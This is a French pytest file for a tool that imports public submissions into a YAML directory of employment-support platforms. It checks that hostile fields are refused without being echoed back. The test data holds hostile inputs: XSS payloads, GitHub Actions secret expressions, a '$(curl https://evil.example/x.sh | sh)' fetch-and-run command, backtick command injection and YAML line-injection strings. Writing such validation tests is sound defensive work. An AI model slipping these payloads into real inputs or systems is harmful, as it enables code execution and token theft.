"""Spécification : une proposition vient de n'importe qui. Une proposition hostile ou mal
formée est refusée (code 1) avec une ligne en français par problème, qui nomme la rubrique et
ce qui ne va pas sans recopier la valeur ; le fichier reste identique à l'octet près."""
import io

import pytest
import yaml

from emploi_accompagne.__main__ import main
from emploi_accompagne.annuaire.formulaire import CHAMPS

from .conftest import REEL, proposition

LECTEUR = getattr(yaml, "CBaseLoader", yaml.BaseLoader)
SOURCE = "https://www.exemple.fr/emploi-accompagne"
BASE = {"departement": "29", "nom": "Plateforme du Finistère", "source": SOURCE}
LIBELLES = {c.id: c.libelle for c in CHAMPS}


def refusee(sortie, *fragments: str, absent: str | None = None) -> list[str]:
    assert sortie.code == 1, sortie.stdout
    assert sortie.inchange
    assert sortie.stdout == ""
    lignes = [ligne for ligne in sortie.stderr.splitlines() if ligne.strip()]
    assert lignes[-1].startswith("Proposition refusée : rien n'a été modifié")
    for fragment in fragments:
        assert fragment in sortie.stderr, sortie.stderr
    if absent:
        assert absent not in sortie.stderr
    assert "Traceback" not in sortie.stderr
    return lignes


@pytest.mark.parametrize(
    "champ, valeur, message, charge",
    [
        ("nom", "<script>alert(1)</script>", "balise HTML refusée", "<script"),
        ("commune", "Brest<img src=x onerror=alert(1)>", "balise HTML refusée", "onerror"),
        ("remarques", "Bonjour <iframe src=https://evil.example>", "balise HTML refusée", "iframe"),
        ("remarques", "${{ secrets.GITHUB_TOKEN }}", "expression de GitHub Actions", "secrets"),
        ("nom", "Plateforme ${{ github.token }}", "expression de GitHub Actions", "github.token"),
        ("commune", "$(curl https://evil.example/x.sh | sh)", "caractères de commande", "curl"),
        ("adresse", "12 rue `id`", "caractères de commande", "`id`"),
        ("nom", 'Plateforme" telephone: "0102030405', "guillemets droits", "0102030405"),
        ("nom", "Plateforme # commentaire", "caractère « # » refusé", "commentaire"),
        ("nom", "telephone: 0102030405", "ressemble à une ligne du fichier (« telephone: »)", "0102030405"),
        ("nom", "statut_verification: confirme", "ressemble à une ligne du fichier", None),
        ("sites", 'Antenne A\n- departement: "02"\n  nom: pirate', "ressemble à une ligne du fichier (« departement: »)", "pirate"),
        ("partenaires", "lien_source: https://evil.example", "ressemble à une ligne du fichier", "evil"),
        ("nom", "Plateforme\u202eenihcam", "caractère invisible ou de contrôle (U+202E)", "enihcam"),
        ("nom", "Plateforme\x00nul", "caractère invisible ou de contrôle (U+0000)", "nul"),
        ("horaires_accueil", "Mo-Fr 09:00-12:00\u2028Sa 09:00-12:00", "caractère invisible ou de contrôle (U+2028)", None),
    ],
)
def test_une_valeur_hostile_est_refusee_sans_etre_recopiee(lancer, champ, valeur, message, charge):
    sortie = lancer(proposition({**BASE, champ: valeur}), "--date", "2026-11-30")
    lignes = refusee(sortie, f"Rubrique « {LIBELLES[champ]} » (ligne ", message, absent=charge)
    assert all(ligne.startswith(("Rubrique « ", "Proposition refusée")) for ligne in lignes)


def test_une_valeur_sur_plusieurs_lignes_ne_peut_pas_ajouter_une_fiche(lancer):
    corps = proposition(BASE).replace(
        "Plateforme du Finistère", 'Plateforme du Finistère\n- departement: "02"\n  nom: Pirate\n  telephone: 0102030405'
    )
    refusee(lancer(corps, "--date", "2026-11-30"), "Rubrique « Nom de la plateforme »", "une seule ligne attendue",
            "ressemble à une ligne du fichier")


def test_une_rubrique_ecrite_deux_fois_est_refusee_avec_ses_deux_lignes(lancer):
    corps = proposition({**BASE, "telephone": "02 98 00 00 00"}) + "\n### Téléphone\n\n01 02 03 04 05\n"
    premiere = corps.splitlines().index("### Téléphone") + 1
    seconde = len(corps.splitlines()) - 2
    refusee(lancer(corps), f"Rubrique « Téléphone » (ligne {seconde}) : écrite deux fois (déjà à la ligne {premiere})")


def test_un_titre_glisse_dans_une_zone_de_texte_compte_comme_un_doublon(lancer):
    corps = proposition({**BASE, "remarques": "Merci\n### Département\n\n02"})
    refusee(lancer(corps), "Rubrique « Département »", "écrite deux fois")


@pytest.mark.parametrize(
    "departement, message",
    [
        ("99", "département inconnu"),
        ("20", "la Corse : 2A ou 2B"),
        ("29, 56", "un seul département par proposition"),
        ("Finistère et Morbihan", "un seul département par proposition"),
        ("29 – Ain", "le numéro 29 est celui du Finistère, pas le nom écrit à côté"),
        ("Atlantide", "département non reconnu"),
    ],
)
def test_un_departement_inconnu_ou_un_second_departement_est_refuse(lancer, departement, message):
    refusee(lancer(proposition({**BASE, "departement": departement})), "Rubrique « Département » (ligne 3)", message,
            absent="Atlantide")


def test_un_second_bloc_departement_est_refuse(lancer):
    corps = proposition(BASE) + proposition({**BASE, "departement": "56"})
    refusee(lancer(corps), "écrite deux fois")


def test_les_rubriques_obligatoires_manquantes_sont_nommees(lancer):
    corps = proposition({"nom": "Plateforme"}, seulement_donnes=True)
    refusee(lancer(corps), "Rubrique « Département » : obligatoire", "Rubrique « Source » : obligatoire")


@pytest.mark.parametrize(
    "source, message",
    [
        ("http://www.exemple.fr", "adresse à écrire en https://"),
        ("un article du journal", "donner l'adresse https:// d'une page publique"),
        ("https://a.example https://b.example", "une seule adresse"),
        ("javascript:alert(1)", "donner l'adresse https://"),
    ],
)
def test_une_source_qui_n_est_ni_une_page_https_ni_la_plateforme_est_refusee(lancer, source, message):
    refusee(lancer(proposition({**BASE, "source": source})), "Rubrique « Source »", message)


def test_un_texte_sans_aucune_rubrique_est_refuse(lancer):
    refusee(lancer("Bonjour, le numéro de la plateforme du 29 est le 02 98 00 00 00.\n"), "Aucune rubrique du formulaire")


def test_un_corps_de_10_mo_est_refuse_sans_etre_lu(lancer):
    corps = proposition(BASE) + "x" * (10 * 1024 * 1024)
    refusee(lancer(corps), "Proposition trop longue")


def test_un_corps_de_10_mo_sur_l_entree_standard_est_refuse(tmp_path, monkeypatch, capsys):
    fichier = tmp_path / "plateformes.yaml"
    fichier.write_text(REEL, encoding="utf-8")
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"### Nom de la plateforme\n\n" + b"x" * 10_000_000)))
    assert main(["from-issue", "-", "--donnees", str(fichier)]) == 1
    assert "Proposition trop longue" in capsys.readouterr().err
    assert fichier.read_text(encoding="utf-8") == REEL


def test_un_texte_qui_n_est_pas_en_utf8_est_refuse(lancer):
    refusee(lancer(proposition(BASE).encode("utf-8") + b"\n\xff\xfe"), "doit être en UTF-8")


def test_un_fichier_de_proposition_absent_est_signale(tmp_path, capsys):
    assert main(["from-issue", str(tmp_path / "absent.md"), "--donnees", str(tmp_path / "x.yaml")]) == 1
    assert "Proposition introuvable" in capsys.readouterr().err


@pytest.mark.parametrize(
    "valeur",
    ["L'Adapei du Finistère", "Handicap & Emploi ; accueil : sur rendez-vous", "Plateforme « Emploi accompagné » (29)",
     "[Plateforme] {29}"],
)
def test_la_ponctuation_ordinaire_est_acceptee_et_ecrite_telle_quelle(lancer, valeur):
    sortie = lancer(proposition({**BASE, "nom": valeur}), "--date", "2026-11-30")
    assert sortie.code == 0, sortie.stderr
    [fiche] = [f for f in yaml.load(sortie.apres, Loader=LECTEUR) if f["departement"] == "29"]
    assert fiche["nom"] == valeur
    assert len(yaml.load(sortie.apres, Loader=LECTEUR)) == 101
